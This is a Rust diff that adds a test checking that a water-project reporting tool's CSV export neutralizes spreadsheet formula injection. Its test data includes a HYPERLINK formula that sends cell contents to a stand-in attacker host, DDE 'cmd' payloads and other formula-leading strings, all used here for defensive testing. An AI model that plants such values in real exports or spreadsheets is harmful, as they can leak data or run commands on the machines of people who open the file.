@@ -647,6 +647,71 @@ mod tests {
         cleanup(&path);
     }
 
+    /// A water user's town that a spreadsheet would run as a formula reaches the CSV export
+    /// through the milestone event, neutralized (OWASP): a leading `'`, and quoted.
+    #[tokio::test]
+    async fn csv_export_neutralizes_formulas_from_project_data() {
+        let (r, path) = temp().await;
+        r.seed_default_plan().await.expect("seed");
+        let handler = r.event_handler();
+        let as_of = report::parse_date("2020-12-31").expect("date");
+        for (k, town) in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let mut e = envelope(&format!("ev-{k}"), &format!("p-{k}"), Milestone::HandedOver);
+            let mut m = ProjectMilestone::decode(e.payload.as_slice()).expect("decode");
+            m.town = town.to_string();
+            e.payload = m.encode_to_vec();
+            handler.handle(&e).await.expect("handled");
+            let file = r
+                .export("xinbei-2020", 0, as_of, export::FileFormat::Csv)
+                .await
+                .expect("csv");
+            let text = String::from_utf8(file.content).expect("utf-8");
+            let a8 = text
+                .lines()
+                .find(|l| l.starts_with("A8-CONTRACT-PROJECTS,"))
+                .expect("a8 line");
+            // The facts are forgotten after each round: this town is alone in its cell.
+            let cell = format!("\"'{}=", town.replace('"', "\"\""));
+            assert!(
+                a8.contains(&format!(",{cell}")),
+                "town {town:?} not neutralized in {a8:?}"
+            );
+            // No field of any line starts with a formula character, but for the numeric
+            // columns we write ourselves.
+            for line in text.lines().skip(1) {
+                for (c, field) in export::split_csv_line(line).iter().enumerate() {
+                    if export::NUMERIC_COLUMNS.contains(&c) {
+                        assert!(field.parse::<f64>().is_ok(), "column {c}: {field:?}");
+                        continue;
+                    }
+                    assert!(
+                        !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "column {c} of {line:?}: {field:?}"
+                    );
+                }
+            }
+            // Clear the facts so the next town leads its cell alone.
+            let admin = Principal {
+                subject: "t".into(),
+                role: cwsm_platform::auth::Role::Admin,
+                org: None,
+            };
+            r.forget_facts(&admin).await.expect("forget");
+        }
+        r.db().close().await;
+        cleanup(&path);
+    }
+
     /// The kept counts give the same report as counting the facts, on every date, whatever
     /// the order events arrive in, for a plan loaded before the facts and one loaded after.
     #[tokio::test]
